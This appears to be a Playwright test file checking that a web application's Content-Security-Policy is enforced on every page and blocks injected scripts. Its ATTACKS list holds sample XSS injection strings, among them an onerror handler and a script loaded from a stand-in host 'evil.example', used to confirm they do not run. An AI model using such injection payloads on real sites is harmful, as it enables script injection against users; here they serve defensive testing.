"""The policy of the server is enforced on every page, nothing is against it, and pages look as they do without it."""

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.browser.atlas import Atlas
from tests.browser.test_every_page import MISSING, PAGES, opened

pytestmark = pytest.mark.browser
WATCH = """
addEventListener('securitypolicyviolation', ({violatedDirective, blockedURI, sourceFile}) =>
  console.error('against the policy:', violatedDirective, blockedURI, sourceFile));
"""
STYLES = """() => {
  const found = [], look = root => root.querySelectorAll('*').forEach(each => {
    if (each.shadowRoot) look(each.shadowRoot);
    if (!each.dataset?.style) return;
    const {backgroundColor, borderTopColor, color, flexGrow, width} = getComputedStyle(each);
    found.push([each.dataset.style, each.style.length, backgroundColor, borderTopColor, color, flexGrow, width]);
  });
  look(document);
  return found;
}"""
"""Computed styles of the elements whose HTML asks for one."""


def context_of(browser: Browser, faults: list[str], *, enforced: bool = True) -> BrowserContext:
    """A window that notes faults; with the policy switched off, as it would be by nobody but a test."""
    context = browser.new_context(
        locale="en-GB", viewport={"width": 1280, "height": 720}, bypass_csp=not enforced, accept_downloads=True
    )
    context.add_init_script(WATCH)
    context.on("console", lambda it: it.type == "error" and faults.append(it.text))
    context.on("weberror", lambda it: faults.append(str(it.error)))
    return context


@pytest.mark.parametrize("address", [*(page for page in PAGES if not page.startswith(MISSING)), "?story=partnership&"])
def test_nothing_is_against_the_policy_and_no_style_is_lost(browser: Browser, server: str, address: str) -> None:
    faults: list[str] = []
    seen = []
    for enforced in (True, False):
        with context_of(browser, faults, enforced=enforced) as context:
            page = context.new_page()
            opened(page, server, address, "ru", "dark")
            page.wait_for_timeout(700)
            seen.append(page.evaluate(STYLES))
    assert faults == []
    assert seen[0] == seen[1]
    assert all(number for _, number, *_ in seen[0])


def test_clicks_hand_outs_and_presenting_are_within_the_policy(browser: Browser, server: str) -> None:
    faults: list[str] = []
    with context_of(browser, faults) as context:
        page = context.new_page()
        atlas = Atlas(page, server).open().linked()
        atlas.click("pair:BY-MI_CN-CQ")
        atlas.filters()
        atlas.pill("sectors:medicine").click()
        atlas.toolbar.locator("button.filters").click()
        atlas.speak("zh")
        atlas.head.locator("button.share").click()
        atlas.head.get_by_role("button", name="二维码").click()
        expect(atlas.head.locator("img[src*=code]")).to_be_visible()
        atlas.head.get_by_role("button", name="复制为表格").click()
        expect(atlas.head.get_by_role("status").last).to_have_text("表格已复制，可粘贴到信函中")
        with page.expect_download() as made:
            atlas.head.locator("a[data-form=svg]").click()
        assert made.value.path().read_bytes().startswith(b"<svg")
        page.keyboard.press("Escape")
        page.locator("body").press("p")
        page.keyboard.press("ArrowRight")
        with context.expect_page() as speaker:
            page.keyboard.press("s")
        expect(speaker.value.locator("main")).to_be_visible()
        page.keyboard.press("Escape")
        atlas.to("data")
        file = page.locator("#root a[href*='download/']").first
        with page.expect_download() as saved:
            file.click()
        assert saved.value.path().stat().st_size > 1000
        for address in ("handout/svg?selected=BY-MI_CN-CQ&lang=en", "handout/html-table?selected=BY-MI_CN-CQ&lang=en"):
            answer = page.request.get(f"{server}/{address}")
            assert answer.status == 200
            assert answer.headers["content-security-policy"].startswith("default-src 'none'")
    assert faults == []


def test_a_script_that_someone_slips_in_does_not_run(browser: Browser, server: str) -> None:
    """That the policy is in force: a script, a handler and a text as HTML, each of which would set the title."""
    faults: list[str] = []
    with context_of(browser, faults) as context:
        page = context.new_page()
        Atlas(page, server).open().linked()
        title = page.title()
        for attack in ATTACKS:
            page.evaluate(f"() => {{ try {{ {attack} }} catch {{ /* Trusted Types */ }} }}")
        page.wait_for_timeout(200)
        assert page.title() == title
        assert len([fault for fault in faults if "against the policy" in fault]) >= len(ATTACKS)


ATTACKS = [
    "const s = document.createElement('script'); s.text = 'document.title = 1'; document.body.append(s)",
    "document.body.insertAdjacentHTML('beforeend', `<img src=x onerror='document.title = 2'>`)",
    "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
    "document.body.setAttribute('onclick', 'document.title = 3'); document.body.click()",
]


def test_the_missing_page_is_within_the_policy_too(browser: Browser, server: str) -> None:
    faults: list[str] = []
    with context_of(browser, faults) as context:
        page: Page = context.new_page()
        page.goto(f"{server}/no/such/page?lang=zh")
        page.evaluate("dispatchEvent(new Event('beforeprint'))")
        assert page.locator(".imprint").text_content()
        page.get_by_role("link", name="数据").click()
        expect(page).to_have_url(f"{server}/data?lang=zh")
    assert [fault for fault in faults if "404" not in fault] == []
